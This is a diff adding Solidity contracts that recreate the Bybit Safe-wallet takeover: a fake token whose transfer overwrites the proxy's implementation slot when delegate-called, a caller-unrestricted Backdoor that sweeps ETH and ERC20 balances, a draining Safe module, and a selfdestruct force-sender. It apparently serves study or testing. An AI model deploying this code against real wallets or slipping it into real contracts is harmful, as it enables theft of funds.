@@ -1,0 +1,52 @@
+// SPDX-License-Identifier: Apache-2.0
+pragma solidity 0.8.37;
+
+/// Bybit, 21 February 2025: looks like a token, since it has `transfer(address,uint256)`. Delegated to, that writes the
+/// recipient into slot 0, where a Safe's proxy keeps which contract it is.
+contract LooksLikeAToken {
+    address private masterCopy;
+
+    function transfer(address to, uint256) external {
+        masterCopy = to;
+    }
+}
+
+/// What the proxy is from then on: it hands everything to whoever asks.
+contract Backdoor {
+    function sweepETH(address payable to) external {
+        (bool sent, ) = to.call{value: address(this).balance}("");
+        require(sent);
+    }
+
+    function sweepERC20(address token, address to) external {
+        (bool read, bytes memory units) = token.staticcall(
+            abi.encodeWithSignature("balanceOf(address)", address(this))
+        );
+        require(read);
+        (bool sent, ) = token.call(
+            abi.encodeWithSignature("transfer(address,uint256)", to, abi.decode(units, (uint256)))
+        );
+        require(sent);
+    }
+}
+
+/// A Safe's module that takes what it wants, as a module may.
+contract ThievingModule {
+    function take(address safe, address to, uint256 units) external {
+        (bool taken, ) = safe.call(
+            abi.encodeWithSignature("execTransactionFromModule(address,uint256,bytes,uint8)", to, units, "", 0)
+        );
+        require(taken);
+    }
+}
+
+/// Sends coins as old contracts do, with 2,300 gas, and as a contract that ends does, by force.
+contract Sender {
+    function pay(address payable to) external payable {
+        to.transfer(msg.value);
+    }
+
+    function force(address payable to) external payable {
+        selfdestruct(to);
+    }
+}
